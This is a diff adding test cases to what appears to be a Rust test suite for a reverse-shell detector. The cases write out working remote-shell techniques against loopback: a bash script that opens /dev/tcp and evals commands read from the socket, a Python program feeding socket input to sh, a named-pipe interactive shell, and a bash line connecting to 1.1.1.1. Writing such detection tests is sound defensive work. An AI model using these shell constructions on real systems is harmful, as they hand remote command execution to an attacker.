@@ -50,6 +50,112 @@ PYTHON
         reports: &["picket_reverse_shell"],
     },
     Case {
+        name: "a script file of bash's gives itself to a connection",
+        prepare: r#"
+loopback
+cat > job.sh <<'SCRIPT'
+exec 3<>"/dev/tcp/127.0.0.1/$1"
+while read -r line <&3; do eval "$line" >&3 2>&3; done
+SCRIPT
+"#,
+        script: r#"
+python3 - <<'PYTHON'
+import os, socket, subprocess
+here, there = os.pipe()
+attacker = os.fork()
+if attacker == 0:
+    server = socket.create_server(("127.0.0.1", 0))
+    os.write(there, b"%d" % server.getsockname()[1])
+    connection, _ = server.accept()
+    connection.sendall(b"echo $((6 * 7))\n")
+    assert connection.recv(100) == b"42\n"
+    connection.close()
+    os._exit(0)
+subprocess.run(["bash", "job.sh", os.read(here, 10)])
+_, status = os.waitpid(attacker, 0)
+assert status == 0, status
+PYTHON
+"#,
+        reports: &["picket_shell_on_connection"],
+    },
+    Case {
+        name: "a program passes on what a connection says to a shell's pipes",
+        prepare: "loopback",
+        script: r#"
+python3 - <<'PYTHON'
+import os, socket, subprocess
+attacker = socket.create_server(("127.0.0.1", 0))
+victim = os.fork()
+if victim == 0:
+    address = attacker.getsockname()
+    attacker.close()
+    connection = socket.create_connection(address)
+    shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+    answer, _ = shell.communicate(connection.recv(100))
+    connection.sendall(answer)
+    os._exit(0)
+connection, _ = attacker.accept()
+connection.sendall(b"echo $((6 * 7))\n")
+assert connection.recv(100) == b"42\n"
+os.waitpid(victim, 0)
+PYTHON
+"#,
+        reports: &["picket_shell_fed_by_client"],
+    },
+    Case {
+        name: "pipes carry what is typed somewhere else into an interactive shell, and back",
+        prepare: "",
+        script: "mkfifo in; (echo exit > in) & setsid -w sh -i < in 2>&1 | cat",
+        reports: &["picket_shell_without_terminal"],
+    },
+    Case {
+        name: "a script file of bash's connects to the internet",
+        prepare: "loopback; echo ': > /dev/tcp/1.1.1.1/9' > job.sh",
+        script: "bash job.sh || true",
+        reports: &["picket_shell_connects"],
+    },
+    Case {
+        name: "scripts ask whether services answer, and a client runs commands",
+        prepare: r#"
+loopback
+cat > wait.sh <<'SCRIPT'
+(echo > "/dev/tcp/127.0.0.1/$1")
+exec 3<>"/dev/tcp/127.0.0.1/$1"
+printf 'GET / HTTP/1.0\r\n\r\n' >&3
+read -r line <&3
+cat <&3
+bash -ic true < /dev/null
+SCRIPT
+"#,
+        script: r#"
+python3 - <<'PYTHON'
+import os, socket, subprocess
+here, there = os.pipe()
+service = os.fork()
+if service == 0:
+    server = socket.create_server(("127.0.0.1", 0))
+    os.write(there, b"%d" % server.getsockname()[1])
+    for _ in range(3):
+        connection, _ = server.accept()
+        try:
+            connection.recv(100)
+            connection.sendall(b"HTTP/1.0 200 OK\r\n\r\nwell\n")
+        except OSError:
+            pass
+        connection.close()
+    os._exit(0)
+port = os.read(here, 10)
+subprocess.run(["bash", "wait.sh", port], check=True, stdout=subprocess.DEVNULL)
+with socket.create_connection(("127.0.0.1", int(port))) as connection:
+    subprocess.run(["sh", "-c", "cat"], input=b"data", stdout=subprocess.PIPE, check=True)
+    subprocess.run(["sh"], stdin=subprocess.DEVNULL, check=True)
+_, status = os.waitpid(service, 0)
+assert status == 0, status
+PYTHON
+"#,
+        reports: &[],
+    },
+    Case {
         name: "shells on pipes, on Unix sockets, and on a pipe after a connection",
         prepare: "loopback",
         script: r#"
